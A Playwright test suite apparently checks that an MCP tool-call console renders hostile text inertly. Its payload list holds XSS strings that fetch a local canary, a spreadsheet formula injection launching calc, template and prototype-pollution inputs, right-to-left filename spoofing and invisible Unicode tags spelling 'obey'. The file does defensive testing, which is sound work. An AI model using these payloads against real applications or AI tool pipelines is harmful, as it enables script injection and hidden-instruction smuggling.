"""Text of strangers in every place of the page: nothing runs, nothing loads, and one can still read what it is."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from typing import Any, NamedTuple
from urllib.request import Request, urlopen

import pytest
from playwright.sync_api import Browser, Locator, expect

from consoles import Served, chromium as chromium, fetched, serving
from patience import PATIENCE
from requirements import requirement
from rigs_browser import Watched, window

AT_LEAST = 30
LINE = 1_000_000
REVISION = "2026-07-28"


class Canary:
    """Somewhere a payload would like to go. Whoever connects is counted."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        with contextlib.suppress(OSError):  # it was closed
            while True:
                peer, _ = self._socket.accept()
                with peer, contextlib.suppress(OSError):
                    peer.settimeout(1)
                    self.visits.append(peer.recv(500).decode("utf-8", "replace"))
                    peer.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\naccess-control-allow-origin: *\r\n\r\n")

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(PATIENCE)


class Payload(NamedTuple):
    name: str
    text: str
    shown: str = ""  # what a person reads, if that is not how it is written


def payloads(canary: str) -> list[Payload]:
    run = f"window.ran=1;fetch('{canary}/ran')"
    return [
        Payload("script", f"<script>{run}</script>"),
        Payload("script from elsewhere", f"<script src={canary}/x.js></script>"),
        Payload("picture that fails", f'<img src=x onerror="{run}">'),
        Payload("picture from elsewhere", f"<img src={canary}/p.png><img srcset='{canary}/q.png 1x'>"),
        Payload("drawing", f"<svg onload=\"{run}\"><image href='{canary}/s.png'/><script>{run}</script></svg>"),
        Payload("drawing as data", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"/>"),
        Payload("frame", f"<iframe src='{canary}/frame' srcdoc='<script>parent.ran=1</script>'></iframe>"),
        Payload("object", f"<object data='{canary}/o'></object><embed src='{canary}/e'>"),
        Payload("picture in markdown", f"![look]({canary}/md.png)"),
        Payload("link in markdown", f"[click](javascript:{run}) <{canary}/auto> {canary}/bare"),
        Payload("javascript address", f"javascript:{run}"),
        Payload("javascript address in disguise", f" \tjava\nscript:{run}", "script:"),
        Payload("page as data", f"data:text/html,<script>{run}</script>"),
        Payload("meta refresh", f'<meta http-equiv="refresh" content="0;url={canary}/meta"><base href="{canary}/">'),
        Payload("style", f"<style>@import '{canary}/i.css'; * {{ background: url({canary}/b.png) }}</style>"),
        Payload("style of an element", f'<p style="position:fixed;inset:0;background:url({canary}/c)">x</p>'),
        Payload("stylesheet", f"<link rel=stylesheet href={canary}/l.css><link rel=prefetch href={canary}/l>"),
        Payload("way out of an attribute", f'"\'><img src=x onerror="{run}"> `"\''),
        Payload("template", f"${{{run}}} {{{{constructor.constructor('{run}')()}}}} #{{7*7}} <%= 7*7 %>"),
        Payload("prototype", '__proto__ {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'),
        Payload("form", f'<form action={canary}/f><button autofocus onfocus="{run}">x</button></form>'),
        Payload("entities", "&lt;script&gt;&#x3c;b&#x3e;&amp;nbsp;&quot;"),
        Payload("cdata and comment", f"<![CDATA[<script>{run}</script>]]> --> <!--[if IE]><script>{run}</script>"),
        Payload(
            "events", f"x\n\ndata: {{}}\nid: 99\nevent: approval\nretry: 1\n\nevent: tick\rdata: {run}", "retry: 1"
        ),
        Payload("spreadsheet", f'=HYPERLINK("{canary}/x","y")+cmd|\'/c calc\'!A1'),
        Payload("direction", "safe\u202egnp.exe\u202c \u2066hidden\u2069", "U+202E"),
        Payload("name of a file from right to left", "invoice_\u202excod.exe", "U+202E"),
        Payload("no width", "pass\u200bword\u2060\ufeff", "U+200B"),
        Payload("tags", "hello" + "".join(chr(0xE0000 + ord(each)) for each in "obey"), "U+E006F"),
        Payload("escape sequences", "\x1b[31mred\x1b[0m\x1b]8;;http://x\x07link\x1b]8;;\x07\x1b[2J", "\\x1b"),
        Payload("control characters", "a\x00b\x07c\x7fd\x08\x08", "\\x00"),
        Payload("older control characters", "a\x9b31mb\x85c\x90d", "\\x9b"),
        Payload("surrogate, written out", '\\ud800 \\udfff "\\u0000"'),
        Payload("combining flood", "Z" + "\u0335\u0317" * 500 + " after", "1,000 marks"),
        Payload("look-alike", "\u0440\u0430y\u0440al.com \u2044 \uff0f"),
        Payload("one line", "word " * (LINE // 5), "word word"),
        Payload("one word", "W" * 100_000, "WWWW"),
        Payload("number", "1" + "0" * 400),
        Payload("nesting", "[" * 900 + "]" * 900, "[[[["),
        Payload("lines", "line\n" * 5_000, "line"),
    ]


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    made = Canary()
    try:
        yield made
    finally:
        made.close()


@pytest.fixture(scope="module")
def known(canary: Canary) -> list[Payload]:
    made = payloads(canary.url)
    assert len(made) >= AT_LEAST
    return made


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, known: list[Payload]) -> Iterator[Served]:
    path = tmp_path_factory.mktemp("hostile") / "texts.json"
    path.write_text(json.dumps([each.text for each in known]), "utf-8")
    settings = '[approvals]\nby = "operator"\n'
    with serving(tmp_path_factory.mktemp("home"), settings=settings, env={"HOSTILE": str(path)}) as made:
        yield made


@pytest.fixture(scope="module")
def shared(chromium: Browser, served: Served) -> Iterator[Watched]:
    with window(chromium, served, served.link) as opened:
        yield opened


@pytest.fixture
def see(shared: Watched, canary: Canary) -> Iterator[Watched]:
    yield shared
    if shared("question").count():  # left by a test that failed
        shared("question-cancel").click()
    untouched(shared)
    shared.fine()
    assert canary.visits == []


@pytest.fixture(scope="module")
def called(shared: Watched, served: Served, known: list[Payload]) -> dict[str, str]:
    """Each hostile tool is called by a client of that name, with the same in its arguments; the ids of the calls."""
    for number, each in enumerate(known):
        given = {"text": each.text[:50_000], each.text[:200]: each.text[:2000]}
        call(served.endpoint, f"hostile_{number}", given, each.text[:1000])
    records: list[dict[str, str]] = fetched(shared.page, "api/audit?event=intent&limit=500")["records"]
    ids = {each["tool"]: each["call"] for each in records}
    return {each.name: ids[f"hostile_{number}"] for number, each in enumerate(known)}


def call(endpoint: str, tool: str, given: dict[str, str], client: str) -> None:
    """As a client that has no scruples."""
    about = "io.modelcontextprotocol/"
    named = {"name": client, "version": client[:100]}
    meta = {f"{about}protocolVersion": REVISION, f"{about}clientInfo": named, f"{about}clientCapabilities": {}}
    params = {"name": tool, "arguments": given, "_meta": meta}
    headers = {
        "content-type": "application/json",
        "accept": "application/json, text/event-stream",
        "mcp-protocol-version": REVISION,
        "mcp-method": "tools/call",
        "mcp-name": tool,
    }
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params})
    with urlopen(Request(endpoint, body.encode(), headers), timeout=PATIENCE) as answer:
        assert b'"result"' in answer.read()


LOOK = """() => {
  const found = [];
  const own = (url) => /^(#|\\/|\\.\\/|api\\/|assets\\/|data:image\\/(png|jpeg|gif|webp);base64,|blob:)/.test(url);
  for (const it of document.querySelectorAll("*")) {
    if (/^(iframe|object|embed|base|style|math|foreignobject|video|frame|portal)$/i.test(it.localName))
      found.push(it.localName);
    if (it.localName === "script" && !/assets\\/\\w+\\/console\\.js$/.test(it.getAttribute("src")))
      found.push("script");
    if (it.localName === "meta" && it.httpEquiv) found.push("meta");
    for (const { name, value } of it.attributes) {
      if (name.startsWith("on")) found.push(`${it.localName} ${name}`);
      if (/^(src|srcset|href|xlink:href|action|formaction|data|poster|background|ping)$/.test(name) && !own(value))
        found.push(`${name}=${value}`);
      if (name === "style" && /url|import|expression|fixed/i.test(value)) found.push(`style=${value}`);
    }
  }
  if (window.ran !== undefined) found.push("something ran");
  if (({}).polluted !== undefined || Object.keys(Object.prototype).length) found.push("polluted");
  return found;
}"""


def untouched(see: Watched) -> None:
    """Nothing of what strangers wrote has become a part of the page, and one can go on."""
    found: list[str] = see.page.evaluate(LOOK)
    assert [each for each in found if not each.startswith(f"href={see.served.url}")] == []
    expect(see("tab-now")).to_be_visible()
    wide = see.page.evaluate("[document.documentElement.scrollWidth, document.documentElement.clientWidth]")
    assert wide[0] <= wide[1] + 1, f"the page is {wide[0]} wide in a window of {wide[1]}"


def readable(where: Locator, payload: Payload) -> None:
    """What a person needs to see is there: as it was written, or with what hides in it made visible."""
    wanted = payload.shown or payload.text[:60]
    expect(where).to_contain_text(wanted)


def of(known: list[Payload], name: str) -> tuple[int, Payload]:
    return next((number, each) for number, each in enumerate(known) if each.name == name)


NAMES = [each.name for each in payloads("http://127.0.0.1:1")]


@requirement("APP-08", "APP-09", "P-33", everywhere=True)
@pytest.mark.parametrize("name", NAMES)
def test_a_payload_in_a_definition_is_a_text(see: Watched, known: list[Payload], name: str) -> None:
    number, payload = of(known, name)
    see.go("tools", f"hostile_{number}")
    expect(see("real-name")).to_have_text(f"hostile_{number}")
    readable(see("tool-detail"), payload)
    assert see("tool-detail").locator("img").count() == 0


@requirement("APP-08", "P-33", everywhere=True)
@pytest.mark.parametrize("name", NAMES)
def test_a_payload_in_arguments_and_results_is_a_text_in_the_story_of_the_call(
    see: Watched, known: list[Payload], called: dict[str, str], name: str
) -> None:
    number, payload = of(known, name)
    see.go("calls", called[name])
    expect(see.page.get_by_role("main")).to_contain_text(f"hostile_{number}")
    readable(see.page.get_by_role("main"), payload)


@requirement("APP-08", "P-33", everywhere=True)
@pytest.mark.parametrize(
    "name", ["script", "drawing", "javascript address", "direction", "escape sequences", "combining flood"]
)
def test_a_payload_is_a_text_where_a_tool_is_tried(see: Watched, known: list[Payload], name: str) -> None:
    number, payload = of(known, name)
    for what in ("", "fail", "ask"):
        see.go("try", f"hostile_{number}")
        expect(see("pick-tool")).to_have_value(f"hostile_{number}")
        see("field-/text").fill(what)
        see("run").click()
        hides = payload.shown.startswith(("U+", "\\"))  # taken out of what a tool says; its definition still has it
        if what == "ask":
            expect(see("question-decline")).to_be_visible()
            if not hides:
                readable(see("question"), payload)
            untouched(see)
            see("question-decline").click()
        expect(see("outcome")).to_have_text("tool error" if what == "fail" else "ok")
        readable(see("try-form") if hides else see("result"), payload)
        expect(see("logs")).to_be_visible()
        assert see("result").locator("img, audio").count() == 0
        untouched(see)


@requirement("APP-08", "P-33", everywhere=True)
def test_lists_of_calls_clients_records_and_tools_stay_readable(
    see: Watched, known: list[Payload], called: Any
) -> None:
    for screen, wait in (("now", "finished"), ("tools", "summary"), ("connections", ""), ("audit", "export-csv")):
        see.go(screen)
        expect(see.page.get_by_test_id(wait) if wait else see.page.get_by_role("table")).to_be_visible()
        main = see.page.get_by_role("main")
        if screen == "now":
            see("finished").locator(".live-more button").click()
        for shown in ("<script>", "U+202E", "\\x1b") if screen != "audit" else ("hostile_0",):
            expect(main).to_contain_text(shown)
        untouched(see)
        see.page.set_viewport_size({"width": 380, "height": 800})
        untouched(see)
        see.page.set_viewport_size({"width": 1280, "height": 720})


@requirement("APP-04", "APP-08", "P-33", everywhere=True)
def test_arguments_somebody_has_to_agree_to_and_notes_are_texts(
    see: Watched, served: Served, known: list[Payload]
) -> None:
    with served.client(revision="2025-11-25", name=known[0].text) as client:
        waiting = [
            served.in_background(client.call, "delete_file", {"path": each.text[:20_000], "token": each.text[:100]})
            for each in known
        ]
        see.go("approve")
        try:
            expect(see("approve-count")).to_have_text(str(len(known)))
        finally:
            assert not (over := [each.result() for each in waiting if each.done()]), over
        main = see.page.get_by_role("main")
        for each in known[:12]:
            expect(main).to_contain_text((each.shown or each.text)[:30])
        expect(main).to_contain_text("U+202E")
        untouched(see)
        decided: list[str] = see.page.evaluate(
            """async (notes) => {
              const csrf = localStorage.getItem("handrail-csrf");
              const headers = { "content-type": "application/json", "x-handrail-csrf": csrf };
              const { open } = await (await fetch("api/approvals", { headers })).json();
              return Promise.all(open.map(async ({ id }, index) => {
                const body = JSON.stringify({ yes: false, note: notes[index % notes.length] });
                return String((await fetch(`api/approvals/${id}`, { method: "POST", headers, body })).status);
              }));
            }""",
            [each.text[:500] for each in known],
        )
        assert set(decided) == {"200"} and len(decided) == len(known)
        assert all(each.result(PATIENCE).is_error for each in waiting)
    expect(see("approve-count")).to_have_count(0)
    see.go("now")
    see.go("approve")
    expect(see.page.get_by_text("Decided lately")).to_be_visible()
    untouched(see)


@requirement("APP-08", everywhere=True)
@pytest.mark.parametrize("name", ["__proto__", "constructor", "hasOwnProperty", "toString", "a.b-c_d"])
def test_names_that_mean_something_to_a_script_are_names(see: Watched, served: Served, name: str) -> None:
    see.go("tools", name)
    expect(see("real-name")).to_have_text(name)
    see(f"switch-{name}").click()
    expect(see(f"switch-{name}")).to_have_attribute("aria-checked", "false")
    see(f"switch-{name}").click()
    expect(see(f"switch-{name}")).to_have_attribute("aria-checked", "true")
    see.go("try", name)
    see("raw").fill(
        '{"text": "it does not work", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'
    )
    expect(see("raw-problem")).to_be_empty()
    see("run").click()
    expect(see("outcome")).to_have_text("tool error")
    untouched(see)
